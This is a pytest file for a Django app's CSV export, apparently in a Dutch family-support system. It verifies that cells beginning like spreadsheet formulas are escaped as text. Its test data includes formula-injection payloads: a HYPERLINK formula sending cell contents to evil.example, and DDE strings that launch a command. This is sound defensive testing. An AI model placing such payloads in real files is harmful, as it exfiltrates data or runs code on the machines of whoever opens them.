"""A CSV export never hands a spreadsheet a formula: a cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return is opened as text, whoever typed it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from coalition.programmes.models import Wijk
from coalition.spreadsheet import csv_text
from families.models import Family
from tests.factories import SupportRequestFactory, with_totp

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+31 6 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_exported_as_text(value):
    [[cell]] = cells(csv_text([[value]]))

    assert cell == "'" + value


def test_numbers_and_ordinary_text_are_exported_unchanged():
    assert cells(csv_text([["Reeshof", 3, -2, 1.5, None, "e-mail"]])) == [
        ["Reeshof", "3", "-2", "1.5", "", "e-mail"]
    ]


def test_a_wijk_named_like_a_formula_is_text_in_the_report_export(
    client, coordinator, buurtgezinnen
):
    with_totp(coordinator)
    wijk = Wijk.objects.create(code="WK999999", name="=cmd|' /C calc'!A0", lat=51.5, lon=5.0)
    request = SupportRequestFactory(programme=buurtgezinnen)
    Family.objects.filter(pk=request.family_id).update(wijk=wijk)
    client.force_login(coordinator)

    body = client.get("/dashboard/rapportages/requests-by-wijk.csv").content.decode()

    assert ["'=cmd|' /C calc'!A0", "1"] in cells(body)


def test_every_csv_export_is_written_by_the_one_helper():
    root = Path(__file__).resolve().parents[2]
    apps = ("coalition", "families", "volunteers", "matching", "coordinators", "devtools")
    writers = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if "csv.writer" in (text := path.read_text()) or "csv.DictWriter" in text
    ]

    assert writers == ["coalition/spreadsheet.py"]
